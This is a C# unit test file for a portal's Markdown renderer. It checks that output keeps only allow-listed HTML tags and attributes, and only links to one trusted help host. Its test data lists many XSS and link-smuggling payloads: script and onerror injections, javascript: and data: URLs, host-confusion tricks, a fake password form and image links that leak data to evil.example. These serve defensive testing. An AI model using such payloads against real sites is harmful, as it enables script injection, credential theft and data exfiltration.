using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Portal.Components.Controls;

namespace Portal.Tests.Web.Controls;

/// <summary>Whatever the text says, only what is on this list comes out (security.md, D19 and D20).</summary>
public sealed class MarkdownTests
{
    private static readonly HashSet<string> Hosts = new(StringComparer.OrdinalIgnoreCase) { "help.example.net" };

    private static readonly Dictionary<string, string[]> Allowed = new()
    {
        ["p"] = [], ["br"] = [], ["em"] = [], ["strong"] = [], ["code"] = [], ["pre"] = [], ["blockquote"] = [], ["hr"] = [],
        ["ul"] = [], ["ol"] = ["start"], ["li"] = [],
        ["h3"] = [], ["h4"] = [], ["h5"] = [], ["h6"] = [],
        ["table"] = [], ["thead"] = [], ["tbody"] = [], ["tr"] = [], ["th"] = [], ["td"] = [],
        ["a"] = ["href", "rel", "target"],
        ["button"] = ["type", "class", "data-testid", "data-cite", "aria-label"],
    };

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onclick=\"x()\">b</b> c",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "</div></div><form action=https://evil.example><input name=password>",
        "<style>*{display:none}</style>",
        "<?php x ?> <![CDATA[<img src=x>]]>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt&colon;alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](java\tscript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](vbscript:msgbox(1))",
        "[a](file:///etc/passwd)",
        "[a](//evil.example/x)",
        "[a](/account/sign-out)",
        "[a](#main)",
        "[a](https://evil.example/?q=secret)",
        "[a](http://help.example.net/)",
        "[a](https://help.example.net@evil.example/)",
        "[a](https://user:pass@help.example.net/)",
        "[a](https://help.example.net.evil.example/)",
        "[a](https://help.example.net:8443/)",
        "[a](https://help.example.net\\@evil.example/)",
        "[a](https:\\\\help.example.net/)",
        "[a](https://help\u3002example.net.evil.example/)",
        "[a](https://h\u0435lp.example.net/)",
        "[a](https://help.example.net/ \"x\" onmouseover=\"alert(1)\")",
        "[a](https://help.example.net/\"onmouseover=\"alert(1))",
        "[a][b]\n\n[b]: javascript:alert(1) \"x\"",
        "[a][b]\n\n[b]: https://evil.example/ '\"><img src=x onerror=alert(1)>'",
        "[1]\n\n[1]: https://evil.example/",
        "[1](https://evil.example/)",
        "[1][x]\n\n[x]: https://evil.example/",
        "![pixel](https://evil.example/leak?d=secret)",
        "![pixel][p]\n\n[p]: https://evil.example/leak",
        "![a ![b](https://evil.example/1) c](https://evil.example/2)",
        "[![a](https://evil.example/i.png)](https://evil.example/)",
        "[a [b](https://evil.example/1) c](https://evil.example/2)",
        "[a [b](https://help.example.net/1) c](https://help.example.net/2)",
        "<https://evil.example/>",
        "<javascript:alert(1)>",
        "<person@evil.example>",
        "https://evil.example/x www.evil.example mailto:a@evil.example ftp://evil.example tel:123",
        "# Title {#id .class onclick=alert(1)}",
        "# Title\n\n## Title 2\n\n###### Six",
        "text {onclick=alert(1)}",
        "``` html onclick=alert(1)\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "| a | b |\n|:-:|--:|\n| <img src=x> | [x](javascript:alert(1)) |",
        "- [ ] task\n- [x] done",
        "x[^1]\n\n[^1]: note <img src=x>",
        "$$\\href{javascript:alert(1)}{x}$$",
        "![video](https://www.youtube.com/watch?v=abc)",
        "::: spoiler onclick=alert(1)\nx\n:::",
        "\u202Egnp.exe\u2066 [safe](https://evil.example) \uFEFF\0\u0001",
        "\uD800 lonely half [a](https://evil.example/\uDFFF)",
        "1) a\n2) b\n\n7. seven\n8. eight",
        "a  \nb\\\nc\n\n***\n\n> quote\n> - list\n>   1. more",
        "&lt;script&gt; &#60;script&#62; &NotAnEntity;",
    ];

    [Theory, Trait("Req", "D19")]
    [MemberData(nameof(Hostile))]
    public void Only_listed_elements_and_attributes_come_out(string text) => Unlisted(Parse(Render(text)!)).Should().BeEmpty();

    [Fact, Trait("Req", "D19")]
    public void The_list_notices_what_is_not_on_it() =>
        Unlisted(Parse("<p onclick=x><img src=y><a href='https://evil.example/'>z</a></p>")).Should().HaveCount(3);

    [Theory, Trait("Req", "D19")]
    [InlineData("[our page](https://help.example.net/kb?a=1&b=2)", "https://help.example.net/kb?a=1&b=2", "our page")]
    [InlineData("<https://help.example.net/kb>", "https://help.example.net/kb", "https://help.example.net/kb")]
    [InlineData("see https://help.example.net/kb now", "https://help.example.net/kb", "https://help.example.net/kb")]
    [InlineData("[**bold**](https://HELP.example.net/)", "https://help.example.net/", "bold")]
    public void A_link_to_a_known_host_stays(string text, string address, string words)
    {
        var link = Parse(Render(text)!).QuerySelector("a")!;

        link.GetAttribute("href").Should().Be(address);
        link.GetAttribute("rel").Should().Contain("noopener");
        link.TextContent.Should().Be(words);
    }

    [Theory, Trait("Req", "D19")]
    [InlineData("[click me](https://evil.example/)", "click me")]
    [InlineData("before ![a *small* cat](https://evil.example/cat.png) after", "before a small cat after")]
    [InlineData("<https://evil.example/>", "https://evil.example/")]
    [InlineData("[a [b](https://evil.example/1) c](https://evil.example/2)", "[a b c](https://evil.example/2)")]
    public void What_may_not_be_a_link_or_a_picture_is_its_words(string text, string words) =>
        Parse(Render(text)!).TextContent.Trim().Should().Be(words);

    [Fact, Trait("Req", "D19")]
    public void A_number_with_a_source_is_a_button_and_others_are_text()
    {
        var page = Parse(Render("Known [1], unknown [7], code `[1]`, long [12].", 1, 12)!);

        page.QuerySelectorAll("[data-testid=citation]").Select(mark => mark.GetAttribute("data-cite")).Should().Equal("1", "12");
        page.TextContent.Should().Contain("unknown [7]").And.Contain("code [1]");
    }

    [Fact]
    public void Ordinary_answers_look_as_they_should()
    {
        var page = Parse(Render("# Memory\n\n- **one**\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```yaml\nkey: <value>\n```\n")!);

        page.QuerySelector("h3")!.TextContent.Should().Be("Memory");
        page.QuerySelectorAll("li").Should().HaveCount(2);
        page.QuerySelectorAll("td").Select(cell => cell.TextContent).Should().Equal("1", "2");
        page.QuerySelector("pre > code")!.TextContent.Should().Be("key: <value>\n");
    }

    internal static string? Render(string text, params int[] citations) =>
        MarkdownRenderer.Render(text, Hosts, citations.ToHashSet(), TimeProvider.System);

    internal static IElement Parse(string html) => new HtmlParser().ParseDocument($"<!doctype html><body>{html}</body>").Body!;

    internal static IEnumerable<string> Unlisted(IElement page)
    {
        foreach (var element in page.QuerySelectorAll("*"))
        {
            if (!Allowed.TryGetValue(element.LocalName, out var attributes))
            {
                yield return element.LocalName;
                continue;
            }

            foreach (var attribute in element.Attributes.Where(attribute => !attributes.Contains(attribute.Name)))
            {
                yield return $"{element.LocalName} {attribute.Name}";
            }

            if (element.GetAttribute("href") is { } address && !address.StartsWith("https://help.example.net/", StringComparison.Ordinal))
            {
                yield return $"{element.LocalName} {address}";
            }
        }
    }
}
